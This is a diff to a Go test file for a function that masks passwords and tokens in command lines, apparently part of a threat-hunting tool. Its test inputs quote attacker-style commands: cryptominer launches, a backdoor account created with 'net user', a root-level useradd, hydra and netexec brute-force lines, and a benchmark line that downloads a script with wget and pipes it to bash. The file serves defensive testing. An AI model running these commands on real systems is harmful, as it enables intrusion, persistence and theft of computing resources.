@@ -91,13 +91,84 @@ func TestSecrets(t *testing.T) {
 
 		// Miners: the pool, the wallet and the options stay.
 		{"xmrig", "./xmrig -o pool.supportxmr.com:3333 -u " + wallet + " -p x -k --donate-level 1",
-			"./xmrig -o pool.supportxmr.com:3333 -u " + wallet + " -p x -k --donate-level 1"},
+			"./xmrig -o pool.supportxmr.com:3333 -u " + wallet + " -p *** -k --donate-level 1"},
+		{"xmrig attached", "xmrig.exe -o pool:3333 -u " + wallet + " -prig1", "xmrig.exe -o pool:3333 -u " + wallet + " -p***"},
+		{"xmr-stak", "./xmr-stak -o pool:3333 -u " + wallet + " -p rig1:me@example.com", "./xmr-stak -o pool:3333 -u " + wallet + " -p ***"},
+		{"cpuminer", "cpuminer -a yescryptR16 -o stratum+tcp://pool:6233 -u " + wallet + " -p c=YTN", "cpuminer -a yescryptR16 -o stratum+tcp://pool:6233 -u " + wallet + " -p ***"},
+		{"minerd", "/usr/bin/minerd -o stratum+tcp://pool:3333 -u W -p x", "/usr/bin/minerd -o stratum+tcp://pool:3333 -u W -p ***"},
+		{"t-rex", "t-rex -a kawpow -o stratum+tcp://rvn.2miners.com:6060 -u " + wallet + " -p x", "t-rex -a kawpow -o stratum+tcp://rvn.2miners.com:6060 -u " + wallet + " -p ***"},
+		{"teamredminer", "./teamredminer -a kawpow -o stratum+tcp://pool:3333 -u W.rig -p x", "./teamredminer -a kawpow -o stratum+tcp://pool:3333 -u W.rig -p ***"},
+		{"gminer", "./miner --algo kawpow --server pool -u W -p x", "./miner --algo kawpow --server pool -u W -p ***"},
+		{"renamed miner, stratum url first", "/tmp/.x/kswapd0 -o stratum+ssl://pool.hashvault.pro:443 -u " + wallet + " -p rig1 -B",
+			"/tmp/.x/kswapd0 -o stratum+ssl://pool.hashvault.pro:443 -u " + wallet + " -p *** -B"},
+		{"nbminer password in the user", "nbminer -a kawpow -o stratum+tcp://pool:3333 -u " + wallet + ".rig1:S3cret",
+			"nbminer -a kawpow -o stratum+tcp://pool:3333 -u " + wallet + ".rig1:***"},
+		{"phoenixminer -pass", "PhoenixMiner.exe -pool ssl://eu1.ethermine.org:5555 -wal 0xWALLET -pass x", "PhoenixMiner.exe -pool ssl://eu1.ethermine.org:5555 -wal 0xWALLET -pass ***"},
 		{"xmrig long flags", "/tmp/.x/kswapd0 --url=stratum+tcp://pool.minexmr.com:4444 --user=" + wallet + " --pass=x --cpu-priority 5",
 			"/tmp/.x/kswapd0 --url=stratum+tcp://pool.minexmr.com:4444 --user=" + wallet + " --pass=*** --cpu-priority 5"},
 		{"stratum userinfo", "t-rex -a kawpow -o stratum+tcp://" + wallet + ".rig1:x@rvn.2miners.com:6060",
 			"t-rex -a kawpow -o stratum+tcp://" + wallet + ".rig1:***@rvn.2miners.com:6060"},
 
+		// Found missing in review: each form hides its secret.
+		{"mysql_pwd", "MYSQL_PWD=S3cret mysql -u root -h db", "MYSQL_PWD=*** mysql -u root -h db"},
+		{"env _key _pass", "env STRIPE_SECRET_KEY=sk_live_1 SSH_KEY='-----BEGIN' SMTP_PASS=p ./app", "env STRIPE_SECRET_KEY=*** SSH_KEY='***' SMTP_PASS=*** ./app"},
+		{"docker login", "docker login -u bot -p S3cret myacr.azurecr.io", "docker login -u bot -p *** myacr.azurecr.io"},
+		{"podman login attached", "sudo podman login -u bot -pS3cret quay.io", "sudo podman login -u bot -p*** quay.io"},
+		{"github token as url user", "git clone https://ghp_16C7e42F292c6912E7710c838347Ae178B4a@github.com/a/b", "git clone https://***@github.com/a/b"},
+		{"devops pat as url user", "git clone https://abcdefghijklmnopqrstuvwxyz234567abcdefghijklmnopqrst@dev.azure.com/org/p/_git/r",
+			"git clone https://***@dev.azure.com/org/p/_git/r"},
+		{"url user and password", "curl https://user:pass@host/x", "curl https://user:***@host/x"},
+		{"sas url escaped in a url", "curl 'https://x/?u=https%3A%2F%2Facct.blob.core.windows.net%2Fc%3Fsv%3D2022%26sig%3DAbC%252B%26se%3D2026'",
+			"curl 'https://x/?u=https%3A%2F%2Facct.blob.core.windows.net%2Fc%3Fsv%3D2022%26sig%3D***%26se%3D2026'"},
+		{"net user", "net user backdoor P@ssw0rd! /add", "net user backdoor *** /add"},
+		{"net1 user upper case", `C:\Windows\System32\net1.exe USER admin "S3 cret" /domain`, `C:\Windows\System32\net1.exe USER admin "***" /domain`},
+		{"aws configure set", "aws configure set aws_secret_access_key wJalrXUtnFEMI/K7MDENG --profile p", "aws configure set aws_secret_access_key *** --profile p"},
+		{"aws session token", "aws configure set default.aws_session_token IQoJb3JpZ2lu", "aws configure set default.aws_session_token ***"},
+		{"vault login", "vault login hvs.CAESIJ7", "vault login ***"},
+		{"winrs -p:", "winrs -r:10.0.0.3 -u:admin -p:S3cret cmd", "winrs -r:10.0.0.3 -u:admin -p:*** cmd"},
+		{"winrs /p:", "winrs /r:10.0.0.3 /u:admin /p:S3cret cmd", "winrs /r:10.0.0.3 /u:admin /p:*** cmd"},
+		{"ldapsearch -w", "ldapsearch -x -H ldap://dc -D cn=admin,dc=x -w S3cret -b dc=x", "ldapsearch -x -H ldap://dc -D cn=admin,dc=x -w *** -b dc=x"},
+		{"schtasks /rp", "schtasks /create /tn upd /tr c:\\x.exe /ru admin /RP S3cret /sc onlogon", "schtasks /create /tn upd /tr c:\\x.exe /ru admin /RP *** /sc onlogon"},
+		{"schtasks /p", "schtasks /query /s dc /u admin /p S3cret", "schtasks /query /s dc /u admin /p ***"},
+		{"curl --oauth2-bearer", "curl --oauth2-bearer eyJ0eXAi https://graph.microsoft.com/v1.0/me", "curl --oauth2-bearer *** https://graph.microsoft.com/v1.0/me"},
+		{"hydra", "hydra -l root -p S3cret ssh://10.0.0.1", "hydra -l root -p *** ssh://10.0.0.1"},
+		{"netexec", "nxc smb 10.0.0.0/24 -u admin -p S3cret --shares", "nxc smb 10.0.0.0/24 -u admin -p *** --shares"},
+		{"echo into sudo -S", "echo S3cret | sudo -S apt-get install -y masscan", "echo *** | sudo -S apt-get install -y masscan"},
+		{"echo -e quoted into sudo -kS", `bash -c "echo -e 'S3cret\n' | sudo -kS id"`, `bash -c "echo -e '***' | sudo -kS id"`},
+		{"echo into passwd --stdin", "echo 'N3w!' | passwd --stdin root", "echo '***' | passwd --stdin root"},
+		{"echo into chpasswd", "echo root:N3w! | /usr/sbin/chpasswd", "echo root:*** | /usr/sbin/chpasswd"},
+		{"htpasswd -b", "htpasswd -b /etc/nginx/.htpasswd admin S3cret", "htpasswd -b /etc/nginx/.htpasswd admin ***"},
+		{"htpasswd -bc, redirected", "htpasswd -bc .htpasswd admin 'S3 cret' 2>/dev/null", "htpasswd -bc .htpasswd admin '***' 2>/dev/null"},
+		{"openssl passwd", "useradd -o -u 0 -p $(openssl passwd -1 S3cret) sysadm", "useradd -o -u 0 -p $(openssl passwd -1 ***) sysadm"},
+		{"sshpass -p", "sshpass -p S3cret ssh root@h", "sshpass -p *** ssh root@h"},
+		{"mysql -p attached", "mysql -pS3cret", "mysql -p***"},
+		{"mysql --password word", "mysql --password S3cret", "mysql --password ***"},
+		{"curl bearer header", `curl -H "Authorization: Bearer eyJ0eXAi" https://x`, `curl -H "Authorization: Bearer ***" https://x`},
+
 		// Benign lines that must not change.
+		{"cp -p", "cp -p /etc/passwd /tmp/.p", ""},
+		{"ssh -p 22", "ssh -p 22 azureuser@20.1.2.3", ""},
+		{"docker run -p after docker login", "docker login -u bot --password-stdin acr.io; docker run -p 8080:80 img", ""},
+		{"docker run -p", "docker run -p 8080:80 -e MODE=prod img", ""},
+		{"lolminer -p is the pool", "./lolMiner -a ETHASH -p daggerhashimoto.eu-north.nicehash.com:3353 -u " + wallet + ".x", ""},
+		{"miner wallet", "./xmrig -o pool.supportxmr.com:3333 -u " + wallet + " --tls", ""},
+		{"stratum wallet user", "./kswapd0 -o stratum+tcp://" + wallet + "@pool:3333", ""},
+		{"url user that is a name", "git clone https://contoso@dev.azure.com/contoso/p/_git/r", ""},
+		{"net user without password", "net user backdoor /add", ""},
+		{"net user asks", "net user admin *", ""},
+		{"net user list", "net user", ""},
+		{"aws configure set region", "aws configure set region eastus", ""},
+		{"aws access key id", "aws configure set aws_access_key_id AKIAIOSFODNN7EXAMPLE", ""},
+		{"vault login method", "vault login -method=oidc role=admin", ""},
+		{"htpasswd delete", "htpasswd -D .htpasswd admin", ""},
+		{"echo into a pipe", "echo hello | grep h", ""},
+		{"echo then sudo", "echo hello; sudo -S id", ""},
+		{"echo or sudo", "echo hello || sudo -S id", ""},
+		{"grep echo into sudo", "grep echo file | sudo -S tee x", ""},
+		{"oldpwd is a folder, key a file", "OLDPWD=/tmp curl --key client.key --cert c.pem https://x", ""},
+		{"key words", "HOTKEY=1 MONKEY=2 keyboard=us ./run", ""},
+		{"ldapsearch -W asks", "ldapsearch -x -D cn=admin -W -b dc=x", ""},
+		{"escaped query without secret", "curl 'https://x/?u=https%3A%2F%2Fa%3Fsv%3D2022%26sp%3Dr'", ""},
 		{"mkdir -p", "mkdir -p /var/tmp/.X11-unix/.cache && cd /var/tmp/.X11-unix/.cache", ""},
 		{"ssh -p", "ssh -p 2222 -i ~/.ssh/id_rsa azureuser@20.1.2.3", ""},
 		{"docker -p", "docker run -d -p 3333:3333 --name x img", ""},
@@ -140,10 +211,18 @@ func TestTableNamesAreNormalised(t *testing.T) {
 		}
 	}
 	for _, f := range scopedFlags {
-		for _, p := range f.programs {
+		for _, p := range append(f.programs, f.with) {
 			if strings.ToLower(p) != p || strings.HasSuffix(p, ".exe") {
-				t.Errorf("%s: program %q: want lower case without .exe", f.flag, p)
+				t.Errorf("%s: program or with word %q: want lower case without .exe", f.flag, p)
 			}
+		}
+		// A cluster is of one-letter flags; a program alone says nothing
+		// of a value, only of what was piped into it.
+		if f.cluster && (len(f.flag) != 2 || f.flag[0] != '-') {
+			t.Errorf("%s: a cluster flag is a dash and a letter", f.flag)
+		}
+		if f.flag == "" && (f.take != piped || len(f.programs) == 0) {
+			t.Errorf("%v: a flag that is its program's name takes what was piped", f.programs)
 		}
 	}
 }
@@ -164,6 +243,11 @@ func FuzzSecrets(f *testing.F) {
 		"--password \"abc",
 		"Authorization: Bearer \"x\"",
 		"/p:x /password:y smbclient -U a%b",
+		"echo -e 'a:b\\n' | sudo -kS passwd --stdin x | chpasswd; echo q || sudo -S",
+		"net user a b /add; aws configure set aws_secret_access_key k; vault login t",
+		"htpasswd -bc f u 'p w' 2>/dev/null; openssl passwd -1 $(x)",
+		"docker login -u u -pP; git clone https://ghp_x@github.com/a; MYSQL_PWD=p",
+		"k -o stratum+tcp://w@p:1 -p x; curl 'u?a%3D1%26sig%3Dz%26c%3D2'",
 	} {
 		f.Add(s)
 	}
@@ -181,4 +265,23 @@ func FuzzSecrets(f *testing.F) {
 			t.Fatalf("broke UTF-8: %q -> %q", s, once)
 		}
 	})
+}
+
+// BenchmarkSecrets: command lines as a hunt meets them, most with nothing
+// to hide, and one at summary.go's redactedCommand limit (4 KiB).
+func BenchmarkSecrets(b *testing.B) {
+	long := strings.Repeat("/opt/app/lib/module-0123456789.jar:", 4<<10/35)
+	for _, c := range []struct{ name, in string }{
+		{"clean", "/bin/bash -c cd /var/tmp/.X11-unix && mkdir -p .cache && wget -q -O- http://198.51.100.7:8080/x.sh | bash"},
+		{"miner", "./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -p x -k --donate-level 1"},
+		{"secrets", `az login --service-principal -u app -p Zx8Q --tenant t && curl -H "Authorization: Bearer eyJ0" "https://acct.blob.core.windows.net/c/x?sv=2022&sig=AbC%2B" -o /tmp/x`},
+		{"long", "java -cp " + long + " com.example.Main --verbose"},
+	} {
+		b.Run(c.name, func(b *testing.B) {
+			b.SetBytes(int64(len(c.in)))
+			for b.Loop() {
+				_ = Secrets(c.in)
+			}
+		})
+	}
 }
